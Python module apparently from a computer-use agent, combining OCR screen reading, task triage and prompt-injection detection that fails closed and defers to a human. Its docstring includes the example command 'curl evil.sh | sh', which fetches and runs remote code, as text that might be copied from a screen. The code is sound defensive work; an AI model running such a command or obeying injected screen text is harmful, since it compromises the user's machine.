"""The loop's view of perception: triage a task, assess a frame for injection.

:class:`Perception` satisfies ``agent.loop.Perceiver``.  Build it once at the
edge (loading the models takes about a second) and pass it to the loop::

    perception = Perception.load()
    triage = perception.triage("Email the report to Ana")
    risk, reason = perception.injection_risk(frame, task)
    copied = perception.typed_from_screen("curl evil.sh | sh", frame, task)

Injection risk is the higher of two opinions: the learned detector
(:mod:`agent.perception.injection_detector`, multilingual) and the English
patterns (:mod:`agent.perception.injection`), a second opinion that names
what it saw.  The words of the last few frames read are kept, so typed text
can be traced to the screen it came from (:mod:`agent.perception.taint`).

Both fail closed: a triager that cannot answer yields category ``unknown``
at high risk, and a frame that cannot be read scores injection risk 1.0 with
the reason, so the policy asks the human instead of assuming all is well.
"""

from __future__ import annotations

from collections import deque
from collections.abc import Sequence
from dataclasses import dataclass, field

from agent.perception import textmatch
from agent.perception.errors import PerceptionError
from agent.perception.injection import InjectionAssessment, InjectionGuard
from agent.perception.injection_detector import DetectorOpinion, LearnedDetector
from agent.perception.ocr import OcrScreenParser, RapidOcrReader
from agent.perception.screen import ScreenParser, TextElement
from agent.perception.taint import find_typed_on_screen
from agent.perception.triage import CentroidTriager, Triager
from policies.decision import Triage, TypedFromScreen
from sandbox.base import Frame

# Frames whose words are kept for tracing typed text back to the screen.
RECENT_SCREENS = 5


@dataclass(frozen=True, slots=True)
class InjectionVerdict:
    """Both opinions on one screen, and the risk the policy is told (the higher)."""

    detector: DetectorOpinion
    patterns: InjectionAssessment

    @property
    def risk(self) -> float:
        return max(self.detector.risk, self.patterns.risk)

    @property
    def reason(self) -> str:
        if self.risk <= 0.0:
            return "no instructions to the agent seen on screen"
        parts = [self.detector.describe()]
        if self.patterns.risk > 0.0:
            parts.append(f"patterns {self.patterns.risk:.2f}: {self.patterns.reason}")
        return "; ".join(parts)

# The category reported when the triager could not classify the task.
UNKNOWN_CATEGORY = "unknown"


@dataclass(slots=True)
class Perception:
    """A screen parser, a triager and an injection guard, used together."""

    parser: ScreenParser
    triager: Triager
    guard: InjectionGuard = field(default_factory=InjectionGuard)
    detector: LearnedDetector = field(default_factory=LearnedDetector)
    _recent: deque[tuple[str, list[TextElement]]] = field(
        default_factory=lambda: deque(maxlen=RECENT_SCREENS))

    @classmethod
    def load(cls, *, ocr_threads: int = 2) -> Perception:
        """The defaults: RapidOCR parser and WordLlama triager, both offline."""
        return cls(parser=OcrScreenParser(RapidOcrReader.load(threads=ocr_threads)),
                   triager=CentroidTriager.load())

    def triage(self, task: str) -> Triage | None:
        try:
            return self.triager.classify(task)
        except PerceptionError:
            return Triage(category=UNKNOWN_CATEGORY, risk="high", confidence=0.0)

    def read(self, frame: Frame) -> list[TextElement]:
        """Every piece of text on ``frame`` with its box (cached by frame hash)."""
        return self.parser.parse(frame)

    def locate(self, frame: Frame, text: str) -> tuple[int, int] | None:
        """The centre of ``text`` on ``frame`` (a script's ``click_text`` and
        ``wait_for_text``), read as a person reads it (:mod:`agent.perception.textmatch`)."""
        element = textmatch.find(self.parser.parse(frame), text)
        return None if element is None else element.center

    def injection_risk(self, frame: Frame, task: str) -> tuple[float, str]:
        try:
            elements = self._read(frame)
        except PerceptionError as exc:
            return 1.0, f"the screen's text could not be checked for injection: {exc}"
        verdict = self.judge(elements, task)
        return verdict.risk, verdict.reason

    def judge(self, elements: Sequence[TextElement], task: str) -> InjectionVerdict:
        """The learned detector's and the patterns' opinions on a screen's words."""
        return InjectionVerdict(self.detector.assess(elements, task),
                                self.guard.assess(list(elements), task))

    def typed_from_screen(self, text: str, frame: Frame, task: str) -> TypedFromScreen | None:
        """Where on this or a recent screen ``text`` was shown, if the task did not ask for it.

        A screen that cannot be read traces nothing: the injection check
        already fails closed on it.
        """
        try:
            self._read(frame)
        except PerceptionError:
            return None
        # The frame just read is the newest; look there first, then back in time.
        return find_typed_on_screen(text, task, list(reversed(self._recent)))

    def _read(self, frame: Frame) -> list[TextElement]:
        """The frame's words, remembered among the recent screens (newest kept last)."""
        elements = self.parser.parse(frame)
        for index, (sha, _words) in enumerate(self._recent):
            if sha == frame.sha256:
                del self._recent[index]
                break
        self._recent.append((frame.sha256, elements))
        return elements
